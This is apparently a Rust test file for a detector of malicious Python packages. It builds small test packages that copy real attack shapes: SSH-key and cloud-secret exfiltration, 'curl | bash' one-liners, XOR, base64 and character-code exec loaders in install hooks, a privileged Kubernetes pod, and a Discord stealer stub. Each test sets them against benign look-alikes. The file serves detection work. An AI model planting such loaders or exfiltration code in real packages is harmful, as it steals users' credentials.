//! Rules that came from the corpus misses and the top-1000 false positives,
//! on small harmless packages of our own (payloads aim at 127.0.0.1 and at
//! placeholder tokens): each malicious shape is caught, each benign look-alike
//! is not. The tests that asserted only verdicts are now cases on disk
//! (`tests/cases/`, run by `tests/cases.rs`); those here check more than
//! the verdict (a finding's message, phase or function), and their
//! packages are cases too.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

mod common;

use common::{SETUP, sdist, wheel};
use custody_inspect::Code;
use std::io::Write;

use custody_inspect::{Level, Verdict};

#[test]
fn a_pep_829_start_entry_makes_its_package_run_at_startup() {
    let r = wheel(&[
        ("pkg.start", "pkg.hook:run\n"),
        (
            "pkg/__init__.py",
            "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
        ),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings.iter().any(|f| f.path == "pkg/__init__.py"
            && f.phase == custody_inspect::Phase::Startup
            && f.code == Code::SecretAccess),
        "{:#?}",
        r.findings
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.path == "pkg.start" && f.code == Code::StartupHook)
    );
}

#[test]
fn a_privileged_pod_created_at_import_is_malicious() {
    let module = "from kubernetes import client, config\nconfig.load_incluster_config()\nspec = {'containers': [{'name': 'x', 'image': 'alpine', 'securityContext': {'privileged': True}}], 'hostPID': True}\nclient.CoreV1Api().create_namespaced_pod('kube-system', {'spec': spec})\nopen('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert!(
        r.findings.iter().any(|f| f.code == Code::PrivilegedPod),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn exec_through_a_lambda_of_a_reversed_compressed_blob_is_malicious() {
    use base64::Engine;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(b"import os\nos.system('id')\n").unwrap();
    let b64 = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
    let reversed: String = b64.chars().rev().collect();
    let setup = format!(
        "from setuptools import setup\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{reversed}'))\nsetup(name='pkg')\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings.iter().any(|f| f
            .layer
            .as_deref()
            .is_some_and(|l| l.contains("reversed-base64"))),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_command_decoded_by_a_local_wrapper_and_run_is_malicious() {
    let setup = "import os, base64\nfrom setuptools import setup\ndef b64d(s):\n    return base64.b64decode(s).decode()\nos.system(b64d('ZWNobyBoZWxsbw=='))\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert!(
        r.findings.iter().any(|f| f.code == Code::DownloadExec),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn one_function_that_fetches_and_runs_code_is_malicious_even_at_run_time() {
    let module = "import urllib.request\ndef update():\n    code = urllib.request.urlopen('http://127.0.0.1:9/u').read()\n    exec(code)\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("pkg/upd.py", module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.reasons.iter().any(|m| m.contains("pkg/upd.py, update")),
        "{:?}",
        r.reasons
    );
    // The same two calls in two functions are what libraries do.
    let split = "import urllib.request\ndef fetch():\n    return urllib.request.urlopen('http://127.0.0.1:9/u').read()\ndef run(code):\n    exec(code)\n";
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("pkg/upd.py", split),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // And tests exercise such code on purpose.
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", ""),
        ("tests/test_upd.py", module),
    ]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn code_xored_with_a_key_and_run_at_install_is_malicious() {
    // Long enough (64 characters and more) to be taken for a cipher text.
    let code = "import os\nos.system('echo hi > /dev/null')\nprint('the step ran, nothing else')\n";
    let key = "9742859652630566609335721507";
    let mut cipher = String::new();
    for (c, k) in code.chars().zip(key.chars().cycle()) {
        std::fmt::Write::write_fmt(
            &mut cipher,
            format_args!("\\x{:02x}", u32::from(c) ^ u32::from(k)),
        )
        .unwrap();
    }
    let setup = format!(
        "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        c = \"{cipher}\"\n        k = \"{key}\"\n        out = ''\n        for i in range(len(c)):\n            out += chr(ord(c[i]) ^ ord(k[i % len(k)]))\n        eval(compile(out, '<string>', 'exec'))\nsetup(name='pkg', cmdclass={{'install': I}})\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings
            .iter()
            .any(|f| f.layer.as_deref() == Some("xor") && f.code == Code::ProcessSpawn),
        "the decoded layer is analysed: {:#?}",
        r.findings
    );
}

#[test]
fn code_spelled_as_character_codes_and_run_is_decoded_and_malicious_at_install() {
    let inner = "import os\nos.system('echo hi > /dev/null')\n";
    let codes: Vec<String> = inner.chars().map(|c| u32::from(c).to_string()).collect();
    let setup = format!(
        "exec(\"\".join(map(chr, [{}])))\nfrom setuptools import setup\nsetup(name='pkg')\n",
        codes.join(",")
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings
            .iter()
            .any(|f| f.layer.as_deref() == Some("chr-list") && f.code == Code::ProcessSpawn),
        "{:#?}",
        r.findings
    );
}

#[test]
fn look_alike_letters_in_identifiers_are_read_as_python_reads_them() {
    // colarg: `𝘳𝙚𝘀𝗽𝗼𝗻𝘀𝘦 = 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(...)` is `response = requests.get(...)`.
    let module = "import requests, subprocess\n\u{1d42e}\u{1d42b}\u{1d425} = 'http://127.0.0.1:9/x.exe'\n\u{1d42b} = \u{1d42b}\u{1d41e}\u{1d42a}\u{1d42e}\u{1d41e}\u{1d42c}\u{1d42d}\u{1d42c}.get(url)\nopen('x.exe', 'wb').write(r.content)\n\u{1d42c}\u{1d42e}\u{1d41b}\u{1d429}\u{1d42b}\u{1d428}\u{1d41c}\u{1d41e}\u{1d42c}\u{1d42c}.Popen(['x.exe'])\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(r.findings.iter().any(|f| f.code == Code::Obfuscation));
    // A table of math symbols (IPython's LaTeX completions) quotes them.
    let table = "SYMBOLS = {'\\\\mbfA': '\u{1d400}', '\\\\mbfB': '\u{1d401}'}  # \u{1d402}\nDOC = \"\"\"\u{1d403} is bold D\"\"\"\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", table)]);
    assert!(
        !r.findings.iter().any(|f| f.code == Code::Obfuscation),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Clean);
}

#[test]
fn a_cloud_secret_posted_from_a_large_module_is_read_and_caught() {
    // The Alibaba Cloud typosquats: a 100 KB client whose constructor posts
    // the access key secret; the constructor runs only when a user makes a
    // client, and a module that size is not read whole unless it both
    // names such a secret and calls requests.post.
    let filler = "def helper_{i}(x):\n    return x + {i}\n\n";
    let mut module = String::from(
        "import requests\n\nclass Client:\n    def __init__(self, config):\n        data = {'ak': config.access_key_id, 'secret': config.access_key_secret}\n        requests.post(\n            url='http://127.0.0.1:9/aliyun', json=data)\n\n",
    );
    for i in 0..400 {
        module.push_str(&filler.replace("{i}", &i.to_string()));
    }
    assert!(module.len() > 8192);
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", "from .client import Client\n"),
        ("pkg/client.py", &module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn an_l111_obfuscated_command_run_at_install_is_decoded_and_malicious() {
    // maratlib: `os.system(l111_(u"<shifted text>"))`, the decoder evals a
    // string literal. Encoded here with the scheme's 2048 + (i + key) % 7.
    let plain = "u\"curl -s http://127.0.0.1:9/x.sh | bash\"";
    let enc: String = plain
        .chars()
        .enumerate()
        .map(|(i, c)| {
            char::from_u32(u32::from(c) + 2048 + (u32::try_from(i).unwrap() + 98) % 7).unwrap()
        })
        .chain(std::iter::once('b'))
        .collect();
    let setup = format!(
        "import sys\ndef l111_(s):\n    k = ord(s[-1])\n    b = s[:-1]\n    return eval(''.join(chr(ord(c) - 2048 - (i + k) % 7) for i, c in enumerate(b)))\nfrom setuptools import setup\n__import__('os').system(l111_(u\"{enc}\"))\nsetup(name='pkg')\n"
    );
    let r = sdist(&[("setup.py", &setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings
            .iter()
            .any(|f| f.layer.as_deref() == Some("l111")),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_module_setup_py_runs_with_python_m_is_read_as_install_time() {
    // codigosintaxis: setup.py runs `python -m syntax`, whose __main__.py
    // starts a Discord bot (a hard-coded token) that steals browser secrets.
    // The token below has the shape of one and is not real.
    let token = "OTAwMDAwMDAwMDAwMDAwMDAw.GAAAAA.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    let setup = "import subprocess\nfrom setuptools import setup\nsetup(name='pkg', packages=['syntax'])\nsubprocess.run(['python', '-m', 'syntax'])\n";
    let main = format!(
        "import socket, win32crypt\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n\n@bot.command()\nasync def grab(ctx):\n    key = win32crypt.CryptUnprotectData(b'x', None, None, None, 0)\n    await ctx.send(socket.gethostbyname(socket.gethostname()))\n\nbot.run('{token}')\n"
    );
    let r = sdist(&[
        ("setup.py", setup),
        ("syntax/__init__.py", ""),
        ("syntax/__main__.py", &main),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(
        r.findings.iter().any(|f| f.code == Code::DropBox
            && f.path.ends_with("syntax/__main__.py")
            && f.phase == custody_inspect::Phase::Install),
        "{:#?}",
        r.findings
    );
}

#[test]
fn code_xored_with_a_key_and_run_by_a_library_function_is_malicious() {
    // colarama and forestyle: a colorama copy whose deinit() XOR-decodes a
    // blob with a digit key and evals it; the module is larger than the
    // small-file limit and deinit runs only when called.
    let payload = "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n";
    let key = "5587725355840836680193978071944485398432052535623941271504390244845513740858142571110992047974660254";
    let mut cipher = String::new();
    for (c, k) in payload.chars().zip(key.chars().cycle()) {
        std::fmt::Write::write_fmt(
            &mut cipher,
            format_args!("\\x{:02x}", u32::from(c) ^ u32::from(k)),
        )
        .unwrap();
    }
    let mut module = String::from("import sys\n\n");
    for i in 0..120 {
        std::fmt::Write::write_fmt(
            &mut module,
            format_args!("def helper_{i}(x):\n    return x + {i}\n\n"),
        )
        .unwrap();
    }
    let deinit = format!(
        "def deinit():\n    blob = \"{cipher}\"\n    key = \"{key}\"\n    out = ''\n    for i in range(len(blob)):\n        out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n    eval(compile(out, '<string>', 'exec'))\n"
    );
    module.push_str(&deinit);
    assert!(module.len() > 4096);
    let r = sdist(&[
        ("setup.py", SETUP),
        ("pkg/__init__.py", "from .initialise import deinit\n"),
        ("pkg/initialise.py", &module),
    ]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn regex_character_ranges_spelled_in_escapes_are_not_hidden_text() {
    // wcmatch: POSIX classes as `\x30-\x39\x41-\x5a...`.
    let module = "CLASSES = {\n    'alnum': '\\x30-\\x39\\x41-\\x5a\\x61-\\x7a',\n    'word': '\\x30-\\x39\\x41-\\x5a\\x5f\\x61-\\x7a',\n}\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // Words spelled so are.
    let hidden = "NAME = '\\x65\\x76\\x61\\x6c\\x75\\x61\\x74\\x65'\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", hidden)]);
    assert!(
        r.findings.iter().any(|f| f.code == Code::Obfuscation),
        "{:#?}",
        r.findings
    );
}

#[test]
fn text_that_names_a_host_or_a_command_is_not_code_that_acts() {
    // litellm/proxy/_types.py: an example URL in a field description.
    let described = "DESC = \"e.g. {'budget_alerts': 'https://nothooks.slack.com/services/T00000000/B00000000/XXXXXXXX'}\"\n";
    let r = common::wheel(&[("pkg/__init__.py", described)]);
    assert!(
        !r.findings.iter().any(|f| f.code == Code::DropBox),
        "{:#?}",
        r.findings
    );
    // tqdm/contrib/telegram.py: a bot API base URL as a class constant.
    let api = "class TelegramIO:\n    API = 'https://api.telegram.org/bot'\n";
    let r = common::wheel(&[("pkg/__init__.py", api)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // Posting to that webhook at import still counts.
    let posted = "import requests\nrequests.post('https://hooks.slack.com/services/T0/B0/X', json={'t': open('/etc/hostname').read()})\n";
    let r = common::wheel(&[("pkg/__init__.py", posted)]);
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // huggingface_hub/cli/skills.py: an install one-liner in a help text.
    let help = "_SKILL = f\"\"\"\\n---\\nname: hf-cli\\n---\\nInstall: curl -LsSf https://hf.co/cli/install.sh | bash -s\\n\"\"\"\n";
    let r = common::wheel(&[("pkg/__init__.py", help)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // The same one-liner run at import is not text.
    let run = "import os\nos.system('curl -LsSf https://203.0.113.9/install.sh | bash -s')\n";
    let r = common::wheel(&[("pkg/__init__.py", run)]);
    assert_ne!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn starting_a_windows_system_program_by_name_is_not_starting_a_dropped_file() {
    // joblib/externals/loky/backend/context.py, run at import.
    let count = "import subprocess\ncmd = '-NoProfile -Command (Get-CimInstance -ClassName Win32_Processor).NumberOfCores'\ninfo = subprocess.run(f'powershell.exe {cmd}'.split(), capture_output=True)\n";
    let r = common::wheel(&[("pkg/__init__.py", count)]);
    assert!(
        !r.findings
            .iter()
            .any(|f| f.code == Code::ProcessSpawn && f.level >= Level::High),
        "{:#?}",
        r.findings
    );
    // A file the package wrote, started the same way, is.
    let dropped = "import subprocess\nsubprocess.run(['C:/Users/Public/update.exe'])\n";
    let r = common::wheel(&[("pkg/__init__.py", dropped)]);
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == Code::ProcessSpawn && f.level >= Level::High),
        "{:#?}",
        r.findings
    );
}

/// Cases from the tuning half of PyPI ranks 3,001-4,000 (even ranks; the
/// odd ranks are held out and never read for rule work), each with the
/// look-alike that must still be caught.
#[test]
fn documentation_and_binary_constants_are_not_payloads() {
    // huggingface_hub 0.36.2: a request bin as a docstring example.
    let api = "def create_webhook(url):\n    \"\"\"Create a webhook.\n\n    >>> create_webhook(url=\"https://webhook.site/your-webhook-url\")\n    \"\"\"\n    import requests\n    return requests.post('https://huggingface.co/api/settings/webhooks', json={'url': url})\n";
    let r = wheel(&[("pkg/__init__.py", api)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // The same address sent to is a request bin in use.
    let probe = "import getpass, requests\nrequests.post('https://webhook.site/0c7f', data=getpass.getuser())\n";
    let r = wheel(&[("pkg/__init__.py", probe)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // PyPDF2 1.27.4: the PDF spec's encryption padding as escaped bytes.
    let pdf = "def b_(s):\n    return s.encode('latin-1')\n_encryption_padding = b_('\\x28\\xbf\\x4e\\x5e\\x4e\\x75\\x8a\\x41\\x64\\x00\\x4e\\x56') + b_('\\xff\\xfa\\x01\\x08\\x2e\\x2e\\x00\\xb6\\xd0\\x68\\x3e\\x80\\x2f\\x0c')\n";
    let r = wheel(&[("pkg/__init__.py", pdf)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // Text spelled in escapes still is obfuscation.
    let hidden = "name = '\\x73\\x75\\x62\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'\n";
    let r = wheel(&[("pkg/__init__.py", hidden)]);
    assert!(
        r.findings.iter().any(|f| f.code == Code::Obfuscation),
        "{:#?}",
        r.findings
    );
}
